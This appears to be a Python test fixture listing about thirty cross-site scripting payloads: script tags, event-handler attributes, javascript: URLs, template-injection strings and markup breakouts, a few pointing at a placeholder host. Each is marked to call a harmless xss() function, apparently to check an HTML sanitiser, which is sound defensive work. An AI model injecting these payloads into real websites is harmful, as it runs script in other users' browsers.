"""What somebody writes who wants a script to run in the browsers of others.

Each one that works calls `xss()` or leaves an element of the class `xss` behind. Names are cut at forty letters:
most of these fit.
"""

PAYLOADS = [
    "<script>xss()</script>",
    "</script><script>xss()</script>",
    "<ScRiPt class=xss src=//e.example>",
    "<img class=xss src=x onerror=xss()>",
    "<svg class=xss onload=xss()>",
    "<svg><script class=xss>xss()</script>",
    "<body class=xss onload=xss()>",
    "<iframe class=xss srcdoc=a onload=xss()>",
    "<iframe class=xss src=javascript:xss()>",
    "<object class=xss data=javascript:xss()>",
    "<embed class=xss src=javascript:xss()>",
    "<details class=xss open ontoggle=xss()>",
    "<input class=xss autofocus onfocus=xss()>",
    "<video class=xss><source onerror=xss()>",
    "<math><a class=xss href=javascript:xss()>",
    "<a class=xss href=javascript:xss()>a</a>",
    "<base class=xss href=//e.example>",
    "<style class=xss>*{color:red}</style>",
    "<p class=xss style=color:red>red",
    "<meta class=xss http-equiv=refresh>0",
    '"><img class=xss src=x onerror=xss()>',
    "'onmouseover='xss()' class='xss",
    "javascript:xss()//",
    "{{constructor.constructor('xss()')()}}",
    "${xss()}{@html xss()}",
    "--><b class=xss>b</b><!--",
    "]]><b class=xss>b</b>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "<template><b class=xss>1</b></template>",
    "{ xss() } = a .b { $name -> *[a] b }",
]
